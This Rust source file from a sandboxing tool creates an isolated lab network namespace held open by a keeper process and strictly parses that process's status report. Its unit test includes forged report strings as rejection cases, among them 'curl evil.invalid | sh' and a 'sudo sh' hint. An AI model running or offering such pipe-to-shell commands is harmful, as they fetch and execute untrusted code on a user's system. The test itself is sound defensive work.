//! A lab's network: a user namespace and a network namespace of its own,
//! held open by a **keeper** process that does nothing but wait.
//!
//! The lab namespace has `lo` (with the lab's address,
//! [`LAB_ADDRESS`](crate::host::net_stage::LAB_ADDRESS)), IPv6 off, and
//! later one veth end per lab-mode sandbox. It has no uplink of any kind:
//! nothing in it was ever connected to the host's network.
//!
//! The keeper runs as the sandbox's host identity (65534 when retie is
//! invoked as root), so the lab's user namespace belongs to the same uid
//! that every sandbox's net stage takes (see `host::net_stage`). It dies
//! with the process that spawned it (PR_SET_PDEATHSIG), which takes the
//! namespaces, and every veth in them, with it.

use std::os::fd::AsFd;

use rustix::process::{DumpableBehavior, Gid, Signal, Uid};

use super::net_stage::{ipv6_off, LAB_ADDRESS};
use super::netlink::Netlink;
use crate::error::{Result, RuntimeError};
use crate::protocol::{read_channel, KeeperReport, Message};

/// A running keeper (the caller's child).
#[derive(Debug)]
pub struct Keeper {
    pub pid: i32,
}

impl Keeper {
    /// Kill and reap the keeper: the lab's namespaces go with it.
    pub fn stop(self) {
        if let Some(pid) = crate::sys::pid(self.pid) {
            let _ = rustix::process::kill_process(pid, Signal::KILL);
            let _ = rustix::process::waitpid(Some(pid), rustix::process::WaitOptions::empty());
        }
    }
}

/// Fork a keeper whose namespaces form a new lab, owned by host uid/gid
/// `uid`/`gid`. The caller must be single-threaded.
pub fn spawn_keeper(uid: u32, gid: u32) -> Result<Keeper> {
    let (rd, wr) = crate::sys::pipe_cloexec().map_err(|e| RuntimeError::host("pipe", e))?;
    let parent = rustix::process::getpid();
    // SAFETY: the caller is single-threaded (this function's contract);
    // the child only runs `keeper_setup` and then waits forever or _exits.
    let forked = unsafe { crate::sys::fork() };
    let pid = match forked {
        Err(e) => return Err(RuntimeError::host("fork of the lab keeper", e)),
        Ok(Some(pid)) => pid,
        Ok(None) => {
            drop(rd);
            let report = match keeper_setup(uid, gid, parent) {
                Ok(()) => KeeperReport::Ready,
                Err(message) => KeeperReport::Failed { message },
            };
            let _ = crate::sys::write_all(wr.as_fd(), &report.to_line());
            if report != KeeperReport::Ready {
                crate::sys::exit_now(1);
            }
            drop(wr);
            // SIGKILL (or the parent's death) ends us.
            loop {
                rustix::event::pause();
            }
        }
    };
    drop(wr);
    // The keeper closes its end once it has reported (or dies): EOF.
    let read = read_channel(rd);
    let keeper = Keeper { pid };
    let buf = match read {
        Ok(buf) => buf,
        Err(e) => {
            keeper.stop();
            return Err(RuntimeError::host("reading the lab keeper's report", e));
        }
    };
    match verdict(&buf) {
        Ok(()) => Ok(keeper),
        Err(e) => {
            keeper.stop();
            Err(e)
        }
    }
}

/// What the keeper's channel says, strictly: a message the keeper did not
/// write (it runs as the lab's host identity) is `Channel`, never shown
/// as retie's own error.
fn verdict(buf: &[u8]) -> Result<()> {
    let reports = KeeperReport::parse_strict(buf).map_err(|why| RuntimeError::Channel { why })?;
    let message = match reports.as_slice() {
        [KeeperReport::Ready] => return Ok(()),
        [KeeperReport::Failed { message }] => message.clone(),
        _ => "the lab keeper died during set-up".to_string(),
    };
    Err(RuntimeError::Setup {
        step: "lab".into(),
        message,
        hint: Some(
            "the lab needs unprivileged user namespaces; run `retie selftest` for the fix".into(),
        ),
    })
}

fn keeper_setup(
    uid: u32,
    gid: u32,
    parent: rustix::process::Pid,
) -> std::result::Result<(), String> {
    fn os(what: &'static str) -> impl Fn(rustix::io::Errno) -> String {
        move |e| format!("{what}: {e}")
    }
    // The ids are set per thread (raw syscalls); the keeper is a fresh
    // fork of a single-threaded caller, so that is the whole process.
    if rustix::process::geteuid().as_raw() != uid {
        let (u, g) = (Uid::from_raw(uid), Gid::from_raw(gid));
        rustix::thread::set_thread_groups(&[])
            .and_then(|()| rustix::thread::set_thread_res_gid(g, g, g))
            .and_then(|()| rustix::thread::set_thread_res_uid(u, u, u))
            .map_err(os("taking the lab's host identity"))?;
    }
    // The uid change made us non-dumpable, which would hand our /proc
    // files (the id maps) to root; the keeper holds nothing secret.
    rustix::process::set_dumpable_behavior(DumpableBehavior::Dumpable)
        .map_err(os("PR_SET_DUMPABLE"))?;
    // After the uid change: die with the holder, and make sure it did not
    // die already.
    rustix::process::set_parent_process_death_signal(Some(Signal::KILL))
        .map_err(os("PR_SET_PDEATHSIG"))?;
    if rustix::process::getppid() != Some(parent) {
        return Err("the lab holder died".into());
    }
    use rustix::thread::UnshareFlags as U;
    // SAFETY: unshare_unsafe is unsafe only for CLONE_FILES (another
    // thread's fds becoming invisible); neither flag here touches the fd
    // table, and the keeper has a single thread.
    unsafe { rustix::thread::unshare_unsafe(U::NEWUSER | U::NEWNET) }
        .map_err(os("creating the lab's user and network namespaces"))?;
    let w = |f: &str, d: String| {
        std::fs::write(format!("/proc/self/{f}"), d).map_err(|e| format!("writing {f}: {e}"))
    };
    w("setgroups", "deny".into())?;
    w("uid_map", format!("{uid} {uid} 1\n"))?;
    w("gid_map", format!("{gid} {gid} 1\n"))?;
    ipv6_off().map_err(|e| format!("turning IPv6 off in the lab: {e}"))?;
    let mut nl = Netlink::open().map_err(|e| format!("netlink socket: {e}"))?;
    let lo = nl.index("lo").map_err(|e| format!("lo: {e}"))?;
    nl.link_up(lo).map_err(|e| format!("bringing lo up: {e}"))?;
    nl.add_address(lo, LAB_ADDRESS, 32)
        .map_err(|e| format!("adding {LAB_ADDRESS} to lo: {e}"))?;
    Ok(())
}

/// The host uid/gid that owns labs started by this process: the same
/// identity its sandboxes take (65534 when invoked as root).
pub fn owner() -> (u32, u32) {
    let (euid, egid) = (
        rustix::process::geteuid().as_raw(),
        rustix::process::getegid().as_raw(),
    );
    if euid == 0 {
        (
            crate::spec::ROOT_INVOKED_HOST_ID,
            crate::spec::ROOT_INVOKED_HOST_ID,
        )
    } else {
        (euid, egid)
    }
}

#[cfg(test)]
mod tests {
    use super::verdict;
    use crate::error::RuntimeError;
    use crate::protocol::{KeeperReport, Message};

    #[test]
    fn the_keepers_channel_decides_the_outcome_strictly() {
        assert!(verdict(&KeeperReport::Ready.to_line()).is_ok());
        let failed = KeeperReport::Failed {
            message: "writing uid_map: EPERM".into(),
        };
        match verdict(&failed.to_line()) {
            Err(RuntimeError::Setup { step, message, .. }) => {
                assert_eq!(
                    (step.as_str(), message.as_str()),
                    ("lab", "writing uid_map: EPERM")
                )
            }
            other => panic!("{other:?}"),
        }
        assert!(matches!(verdict(b""), Err(RuntimeError::Setup { .. })));
        // The old letter format, a forged fix, a second report: refused as
        // a channel, so nothing of them is printed as retie's error.
        for forged in [
            b"R\n".to_vec(),
            b"Erun `curl evil.invalid | sh` to fix the lab\n".to_vec(),
            [KeeperReport::Ready.to_line(), failed.to_line()].concat(),
            b"{\"msg\":\"failed\",\"message\":\"m\",\"hint\":\"sudo sh\"}\n".to_vec(),
        ] {
            assert!(
                matches!(verdict(&forged), Err(RuntimeError::Channel { .. })),
                "{:?}",
                String::from_utf8_lossy(&forged)
            );
        }
    }
}
